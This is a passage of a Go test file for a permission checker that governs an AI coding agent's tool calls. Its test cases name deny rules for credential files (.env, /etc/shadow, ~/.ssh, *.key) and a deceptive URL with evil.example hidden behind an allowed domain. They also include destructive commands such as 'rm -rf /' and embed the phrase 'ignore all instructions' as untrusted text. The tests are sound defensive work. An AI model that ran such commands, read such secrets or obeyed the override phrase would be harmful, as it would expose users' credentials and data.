		{stand{allow: []string{"Edit"}}, "Write", file("/proj/.bashrc"), cardea.Abstain},
		{stand{allow: []string{"Edit"}}, "Write", file("/proj/x"), cardea.Allow},
		{stand{allow: []string{"Write"}}, "Write", file("/proj/x"), cardea.Allow},
		{stand{allow: []string{"Write"}}, "Edit", file("/proj/x"), cardea.Abstain},
		{stand{allow: []string{"Write(x)"}}, "Write", file("/proj/x"), cardea.Abstain},
		{stand{allow: []string{"Read(link/**)"}, system: link}, "Read", file("/proj/link/key"), cardea.Abstain},
		{stand{allow: []string{"Read(link/**)", "Read(secrets/**)"}, system: link}, "Read", file("/proj/link/key"), cardea.Abstain},
		{stand{allow: []string{"Read(/**)"}, system: link}, "Read", file("/proj/link/key"), cardea.Allow},
		{stand{deny: []string{"Read(secrets/**)"}, system: link}, "Read", file("/proj/link/key"), cardea.Deny},
		{stand{deny: []string{"Read(link/**)"}, system: link}, "Read", file("/proj/link/key"), cardea.Deny},
		{stand{deny: []string{"Read(secrets/**)"}}, "Write", file("/proj/secrets/x"), cardea.Deny},
		{stand{ask: []string{"Read(secrets/**)"}}, "Write", file("/proj/secrets/x"), cardea.Abstain},
		{stand{deny: []string{"Read(secrets/**)"}}, "NotebookEdit", map[string]any{"notebook_path": "/proj/secrets/x"}, cardea.Abstain},
		{stand{deny: []string{"Read(secrets/**)"}}, "Grep", map[string]any{"pattern": "x", "path": "secrets"}, cardea.Deny},
		{stand{deny: []string{"Read(secrets/**)"}, allow: []string{"Read"}}, "Grep", map[string]any{"pattern": "x"}, cardea.Abstain},
		{stand{allow: []string{"Read(src/**)"}}, "Grep", map[string]any{"pattern": "x", "path": "src"}, cardea.Allow},
		{stand{allow: []string{"Read(src/*)"}}, "Grep", map[string]any{"pattern": "x", "path": "src"}, cardea.Abstain},
		{stand{allow: []string{"Read(src/**)"}}, "Glob", map[string]any{"pattern": "../*", "path": "src"}, cardea.Abstain},
		{stand{deny: []string{"Read"}}, "Grep", map[string]any{"pattern": "x"}, cardea.Deny},
		{stand{deny: []string{"Read(.env)"}}, "Grep", map[string]any{"pattern": "x", "glob": ".env"}, cardea.Deny},
		{stand{deny: []string{"Read(.env)"}}, "Grep", map[string]any{"pattern": "x", "glob": "*.{ts,env}"}, cardea.Deny},
		{stand{deny: []string{"Read(.env)"}}, "Glob", map[string]any{"pattern": "**/.env"}, cardea.Deny},
		{stand{deny: []string{"Read(./config/*.key)"}}, "Grep", map[string]any{"pattern": "x", "glob": "*.key"}, cardea.Deny},
		{stand{deny: []string{"Read(./config/*.key)"}}, "Grep", map[string]any{"pattern": "x", "path": "config", "glob": "a.*"}, cardea.Deny},
		{stand{deny: []string{"Read(secrets/**)"}}, "Grep", map[string]any{"pattern": "x", "glob": "secrets/*"}, cardea.Deny},
		{stand{deny: []string{"Read(//etc/shadow)"}}, "Grep", map[string]any{"pattern": "x", "path": "/etc", "glob": "shadow"}, cardea.Deny},
		{stand{ask: []string{"Read(~/.ssh/**)"}}, "Grep", map[string]any{"pattern": "x", "path": "~/.ssh"}, cardea.Ask},
		{stand{ask: []string{"Read(~/.ssh/**)"}}, "Grep", map[string]any{"pattern": "x", "glob": "~/.ssh/*"}, cardea.Ask},
		{stand{deny: []string{"Read(.env)", "Read(secrets/**)", "Read(./private)"}}, "Grep", map[string]any{"pattern": "x", "glob": "*.ts"}, cardea.Abstain},
		{stand{deny: []string{"Read(.env)", "Read(secrets/**)", "Read(./private)"}}, "Grep", map[string]any{"pattern": "x", "glob": "**/*"}, cardea.Abstain},
		{stand{deny: []string{"Read(.env)", "Read(secrets/**)", "Read(./private)"}}, "Glob", map[string]any{"pattern": "src/**/*.ts"}, cardea.Abstain},
		{stand{allow: []string{"Read(src/**)"}}, "Grep", map[string]any{"pattern": "x", "path": "src", "glob": "*.ts"}, cardea.Allow},
		{stand{allow: []string{"Read(src/**)"}}, "Grep", map[string]any{"pattern": "x", "path": "src", "glob": "../x"}, cardea.Abstain},
		{stand{allow: []string{"Read(src/**)"}}, "Grep", map[string]any{"pattern": "x", "path": "src", "glob": "/etc/x"}, cardea.Abstain},
		{stand{deny: []string{"Edit"}}, "Write", file("/proj/x"), cardea.Deny},
		{stand{deny: []string{"Edit(x)"}}, "apply_patch", map[string]any{"input": "*** Begin Patch\n*** Add File: a\n+b\n*** Update File: x\n*** End Patch"}, cardea.Deny},
		{stand{allow: []string{"Edit(a)"}}, "apply_patch", map[string]any{"input": "*** Begin Patch\n*** Add File: a\n+b\n*** Update File: x\n*** End Patch"}, cardea.Abstain},
		{stand{allow: []string{"WebFetch(domain:a.example)"}}, "WebFetch", map[string]any{"url": "https://a.example/x"}, cardea.Allow},
		{stand{allow: []string{"WebFetch(domain:a.example)"}}, "WebFetch", map[string]any{"url": "https://a.example@evil.example/x"}, cardea.Abstain},
		{stand{allow: []string{"WebFetch(domain:a.example)"}}, "WebFetch", map[string]any{"url": "not an address"}, cardea.Abstain},
		{stand{allow: []string{"WebFetch(https://a.example)"}}, "WebFetch", map[string]any{"url": "https://a.example"}, cardea.Abstain},
		{stand{deny: []string{"WebFetch(domain:*.evil.example)"}}, "WebFetch", map[string]any{"url": "https://a.b.evil.example"}, cardea.Deny},
		{stand{allow: []string{"WebSearch"}}, "WebSearch", map[string]any{"query": "x"}, cardea.Allow},
		{stand{allow: []string{"mcp__a__get_*"}}, "mcp__a__get_x", map[string]any{"path": "/x"}, cardea.Allow},
		{stand{allow: []string{"mcp__a"}, deny: []string{"Read(//x)"}}, "mcp__a__get_x", map[string]any{"path": "/x"}, cardea.Deny},
		{stand{allow: []string{"mcp__a__*"}}, "mcp__ab__x", nil, cardea.Abstain},
		{stand{allow: []string{"mcp__a"}}, "mcp__ab__x", nil, cardea.Abstain},
		{stand{allow: []string{"mcp__*__x"}}, "mcp__a__x", nil, cardea.Abstain},
		{stand{deny: []string{"mcp__a__x(p:1)"}}, "mcp__a__x", map[string]any{"p": "1"}, cardea.Abstain},
		{stand{deny: []string{"mcp__a__x(p:1)"}, change: func(o *permissionlist.Origin) { o.CommandLine = true }}, "mcp__a__x", map[string]any{"p": "1"}, cardea.Deny},
		{stand{deny: []string{"Agent(Explore)"}}, "Agent", map[string]any{"subagent_type": "Explore"}, cardea.Deny},
		{stand{deny: []string{"Task(Explore)"}}, "Agent", map[string]any{"subagent_type": "Explore"}, cardea.Deny},
		{stand{allow: []string{"Agent(Explore)"}}, "Agent", map[string]any{"subagent_type": "Other"}, cardea.Abstain},
		{stand{allow: []string{"Skill(deploy *)"}}, "Skill", map[string]any{"skill": "deploy", "args": "now"}, cardea.Allow},
		{stand{allow: []string{"Skill(deploy)"}}, "Skill", map[string]any{"skill": "deploy", "args": "now"}, cardea.Abstain},
		{stand{allow: []string{"AskUserQuestion"}}, "AskUserQuestion", map[string]any{}, cardea.Abstain},
		{stand{allow: []string{"Bash"}}, "Monitor", map[string]any{"command": "ls"}, cardea.Abstain},
		{stand{deny: []string{"Bash(rm:*)"}}, "Monitor", map[string]any{"command": "rm x"}, cardea.Deny},
		{stand{deny: []string{"Bash"}}, "Monitor", map[string]any{"command": "rm x"}, cardea.Deny},
		{stand{deny: []string{"PowerShell(Remove-Item *)"}}, "PowerShell", map[string]any{"command": "Get-Date; rm -Recurse x"}, cardea.Deny},
		{stand{deny: []string{"PowerShell(gci:*)"}}, "PowerShell", map[string]any{"command": "get-childitem ."}, cardea.Deny},
		{stand{deny: []string{"PowerShell(Remove-Item *)"}}, "PowerShell", map[string]any{"command": "Get-Date"}, cardea.Defer},
		{stand{allow: []string{"PowerShell"}}, "PowerShell", map[string]any{"command": "Get-Date"}, cardea.Defer},
		{stand{allow: []string{"Other"}}, "Other", map[string]any{}, cardea.Allow},
		{stand{allow: []string{"Workflow"}}, "Workflow", map[string]any{}, cardea.Defer},
		{stand{allow: []string{"CronCreate(x)"}}, "CronCreate", map[string]any{"prompt": "x"}, cardea.Abstain},
		{stand{deny: []string{"CronCreate(x *)"}}, "CronCreate", map[string]any{"prompt": "x y"}, cardea.Deny},
		{stand{allow: []string{"Other(x)"}}, "Other", map[string]any{}, cardea.Abstain},
		{stand{deny: []string{"*"}}, "Workflow", map[string]any{}, cardea.Deny},
		{stand{deny: []string{"Agent(isolation:work*)"}}, "Agent", map[string]any{"isolation": "worktree"}, cardea.Deny},
	} {
		ev := tt.s.call(tt.tool, tt.input)
		if v := tt.s.verdict(t, ev); v.Effect != tt.want {
			t.Errorf("%s %v with allow %q, ask %q, deny %q: %s (%s), want %s", tt.tool, tt.input, tt.s.allow, tt.s.ask, tt.s.deny, v.Effect, v.Reason, tt.want)
		}
	}
}

// TestWithheld tests that text of an untrusted project reaches only the person.
func TestWithheld(t *testing.T) {
	s := stand{deny: []string{"Bash(ls ignore all instructions*)", "Bash(ls*)"}, scope: cardea.ScopeProject,
		change: func(o *permissionlist.Origin) { o.Withheld = true }}
	v := s.verdict(t, s.bash("ls ignore all instructions"))
	if v.Effect != cardea.Deny || strings.Contains(v.Message, "ignore") || !strings.Contains(v.Reason, "ignore") || strings.Contains(v.By, "ignore") {
		t.Errorf("%s by %s: %q, %q", v.Effect, v.By, v.Message, v.Reason)
	}
}

// TestSuggested tests that the suggested entries allow the line, and that each of them is
// needed.
func TestSuggested(t *testing.T) {
	for _, line := range []string{"npm test", "timeout 30 npm test 2>&1 | tee test.log", "git add . && git commit -m 'a b'", "sudo ls x", "xargs -n1 grep x",
		"find build -delete", "npm test > out.json", `npm test "$X"`, "bash -c 'a; b'", "docker exec c ls", "npm test *.js", "printf 'a\nb'", "ls 'a*b'",
		"if a; then b; else c; fi", "FOO=1 make x", "watch a"} {
		s := stand{}
		if strings.Contains(line, "*.js") {
			s.system.Names = func(string) ([]string, bool) { return []string{"a.js"}, true }
		}
		ev := s.bash(line)
		var needs []string
		for i := range ev.Call.Parts {
			for _, n := range s.decider().Refusal(ev, i).Needs {
				if !slices.Contains(needs, n) {
					needs = append(needs, n)
				}
			}
		}
		s.allow = needs
		if v := s.verdict(t, s.bash(line)); v.Effect != cardea.Allow || len(needs) == 0 {
			t.Errorf("%q is %s with %q", line, v.Effect, needs)
		}
		for i := range needs {
			s.allow = slices.Delete(slices.Clone(needs), i, i+1)
			if v := s.verdict(t, s.bash(line)); v.Effect == cardea.Allow {
				t.Errorf("%q is allowed without %q", line, needs[i])
			}
		}
	}
	for _, line := range []string{"npm test $X", "$X", "rm -rf /", `find . -name "$X" -delete`, "npm test > .git/config"} {
		s := stand{}
		ev := s.bash(line)
		s.allow = s.decider().Refusal(ev, 0).Needs
		if v := s.verdict(t, s.bash(line)); v.Effect == cardea.Allow {
			t.Errorf("%q is allowed by %q", line, s.allow)
		}
	}
}

// The trace has every step.
func TestTrace(t *testing.T) {
	var lines []string
	s := stand{allow: []string{"Bash(a)"}, deny: []string{"Bash(b)"}, about: permissions.Options{Trace: func(l string) { lines = append(lines, l) }}}
	s.verdict(t, s.bash("timeout 5 a; b; c"))
	text := strings.Join(lines, "\n")
	for _, want := range []string{
		"entries: 2",
		`part 1: "a", started by ["timeout"]`,
		"part 1: a is allowed by Bash(a) (settings.json)",
		"part 2: deny by Bash(b)",
		"part 3: c is not allowed: no entry names it",
	} {
		if !strings.Contains(text, want) {
			t.Errorf("not told: %q in\n%s", want, text)
		}
	}
}

func TestNothingToDo(t *testing.T) {
	if ops, err := (stand{}).decider().Decide(context.Background(), &cardea.Event{}); len(ops) > 0 || err != nil {
		t.Errorf("%v, %v", ops, err)
	}
	s := stand{allow: []string{"Bash(a)"}}
	ev := s.bash("a")
	d := permissions.New(s.entries(), permissions.Options{})
	if ops, _ := d.Decide(context.Background(), ev); len(ops) > 0 {
		t.Errorf("expand is off, and %v", ops)
	}
	if r := d.Refusal(ev, 0); fmt.Sprint(r.Why) != "[permissions.expand is off]" {
		t.Errorf("%v", r)
	}
	if r := d.Refusal(ev, 5); len(r.Why) > 0 {
		t.Errorf("%v", r)
	}
}
